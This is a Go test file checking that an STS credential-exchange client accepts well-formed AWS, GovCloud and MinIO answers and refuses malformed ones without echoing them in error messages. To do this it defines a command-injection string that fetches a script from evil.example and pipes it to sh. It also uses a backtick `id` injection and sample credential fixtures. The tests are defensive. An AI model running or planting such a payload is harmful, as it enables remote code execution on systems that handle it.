package stsexchange

import (
	"strings"
	"testing"
)

// minioCreds are shaped as MinIO's STS answers: a 20-character key, a
// 40-character secret and a JWT session token.
var minioCreds = credsXML{
	AccessKeyID: "Z4OGCWS7Z9H3KSPBE3DD",
	Secret:      "mX+fTXtRb0GEqH3V2XJb2oDg4Zs1NXRdlVa/Qk3T",
	Token:       "eyJhbGciOiJIUzUxMiIsInR5cCI6IkpXVCJ9.eyJhY2Nlc3NLZXkiOiJaNE9HQ1dTN1oifQ.3r-vQ_lTx0Nf8a9",
	Expiration:  testExpiry,
}

func TestAnswersShapedAsSTSShapesThemAreAccepted(t *testing.T) {
	cases := []struct{ name, body string }{
		{"AWS", webIdentityOK(goodCreds, assumedUserXML("arn:aws:sts::123456789012:assumed-role/deploy/GitHubActions"))},
		{"MinIO: an empty AssumedRoleUser and a JWT session token", webIdentityOK(minioCreds, "<AssumedRoleUser><Arn></Arn><AssumedRoleId></AssumedRoleId></AssumedRoleUser>")},
		{"GovCloud, a role path and a session name of every allowed character", webIdentityOK(goodCreds, assumedUserXML("arn:aws-us-gov:sts::123456789012:assumed-role/ci/deploy/a+b=c,d.e@f_g-h"))},
		{"the shortest secret and session token allowed", webIdentityOK(credsXML{goodCreds.AccessKeyID, goodCreds.Secret[:32], goodCreds.Token[:64], testExpiry}, "")},
		{"a 128-character key ID", webIdentityOK(credsXML{"ASIA" + strings.Repeat("A1", 62), goodCreds.Secret, goodCreds.Token, testExpiry}, "")},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := startSTS(t, xmlAnswer(200, tc.body))
			if _, err := callWeb(t, newTestClient(t, f.URL, nil)); err != nil {
				t.Fatalf("refused: %v", err)
			}
		})
	}
}

func TestAnswersNotShapedAsSTSShapesThemAreRefusedWithoutEchoingThem(t *testing.T) {
	const evil = "$(curl${IFS}evil.example|sh)"
	cases := []struct{ name, body, field string }{
		{"shell syntax in the ARN", webIdentityOK(goodCreds, assumedUserXML("arn:aws:sts::123456789012:assumed-role/x/"+evil)), "AssumedRoleUser.Arn"},
		{"a backtick in the ARN", webIdentityOK(goodCreds, assumedUserXML("arn:aws:sts::123456789012:assumed-role/x/`id`")), "AssumedRoleUser.Arn"},
		{"an account of 11 digits", webIdentityOK(goodCreds, assumedUserXML("arn:aws:sts::12345678901:assumed-role/x/s")), "AssumedRoleUser.Arn"},
		{"an account of letters", webIdentityOK(goodCreds, assumedUserXML("arn:aws:sts::12345678901a:assumed-role/x/s")), "AssumedRoleUser.Arn"},
		{"a space in the ARN", webIdentityOK(goodCreds, assumedUserXML("arn:aws:sts::123456789012:assumed-role/x/a b")), "AssumedRoleUser.Arn"},
		{"no ARN prefix", webIdentityOK(goodCreds, assumedUserXML("urn:aws:sts::123456789012:assumed-role/x/s")), "AssumedRoleUser.Arn"},
		{"shell syntax in the role ID", webIdentityOK(goodCreds, strings.Replace(assumedUserXML("arn:aws:sts::123456789012:assumed-role/x/s"), "AROACLKWSDQRAOEXAMPLE:gha-run", "AROA;"+evil, 1)), "AssumedRoleUser.AssumedRoleId"},
		{"shell syntax in the key ID", webIdentityOK(credsXML{"ASIA" + evil, goodCreds.Secret, goodCreds.Token, testExpiry}, ""), "Credentials.AccessKeyId"},
		{"a lower-case key ID", webIdentityOK(credsXML{"asiaexamplekeyid0001", goodCreds.Secret, goodCreds.Token, testExpiry}, ""), "Credentials.AccessKeyId"},
		{"a key ID of 15 characters", webIdentityOK(credsXML{"ASIAEXAMPLEKEY1", goodCreds.Secret, goodCreds.Token, testExpiry}, ""), "Credentials.AccessKeyId"},
		{"a key ID of 129 characters", webIdentityOK(credsXML{"ASIA" + strings.Repeat("A", 125), goodCreds.Secret, goodCreds.Token, testExpiry}, ""), "Credentials.AccessKeyId"},
		{"shell syntax in the secret", webIdentityOK(credsXML{goodCreds.AccessKeyID, "abc" + evil + goodCreds.Secret, goodCreds.Token, testExpiry}, ""), "Credentials.SecretAccessKey"},
		{"a quote in the secret", webIdentityOK(credsXML{goodCreds.AccessKeyID, "abc'def" + goodCreds.Secret, goodCreds.Token, testExpiry}, ""), "Credentials.SecretAccessKey"},
		{"shell syntax in the session token", webIdentityOK(credsXML{goodCreds.AccessKeyID, goodCreds.Secret, "FwoG" + evil + goodCreds.Token, testExpiry}, ""), "Credentials.SessionToken"},
		{"an empty secret", webIdentityOK(credsXML{goodCreds.AccessKeyID, "", goodCreds.Token, testExpiry}, ""), "Credentials.SecretAccessKey"},
		{"a secret of 31 characters", webIdentityOK(credsXML{goodCreds.AccessKeyID, goodCreds.Secret[:31], goodCreds.Token, testExpiry}, ""), "Credentials.SecretAccessKey"},
		{"an empty session token", webIdentityOK(credsXML{goodCreds.AccessKeyID, goodCreds.Secret, "", testExpiry}, ""), "Credentials.SessionToken"},
		{"a session token of 3 characters", webIdentityOK(credsXML{goodCreds.AccessKeyID, goodCreds.Secret, "abc", testExpiry}, ""), "Credentials.SessionToken"},
		{"a session token of 63 characters", webIdentityOK(credsXML{goodCreds.AccessKeyID, goodCreds.Secret, goodCreds.Token[:63], testExpiry}, ""), "Credentials.SessionToken"},
		{"a space in the session token", webIdentityOK(credsXML{goodCreds.AccessKeyID, goodCreds.Secret, "FwoG abc" + goodCreds.Token, testExpiry}, ""), "Credentials.SessionToken"},
		{"non-ASCII in the session token", webIdentityOK(credsXML{goodCreds.AccessKeyID, goodCreds.Secret, "FwoGé" + goodCreds.Token, testExpiry}, ""), "Credentials.SessionToken"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := startSTS(t, xmlAnswer(200, tc.body))
			res, err := callWeb(t, newTestClient(t, f.URL, nil))
			if res != nil {
				t.Fatalf("got result %+v, want none", res)
			}
			e := asError(t, err)
			// An empty value has nothing to withhold.
			if e.Class != Fatal || !strings.Contains(e.Message, tc.field) || !strings.Contains(e.Message, "value withheld") && !strings.Contains(e.Message, tc.field+" is empty") {
				t.Errorf("got %v (class %v); want a fatal error naming %s, value withheld", e, e.Class, tc.field)
			}
			assertNoSecrets(t, e, evil, "`id`", "a b", "abc'def", goodCreds.Secret, goodCreds.Token)
		})
	}
}
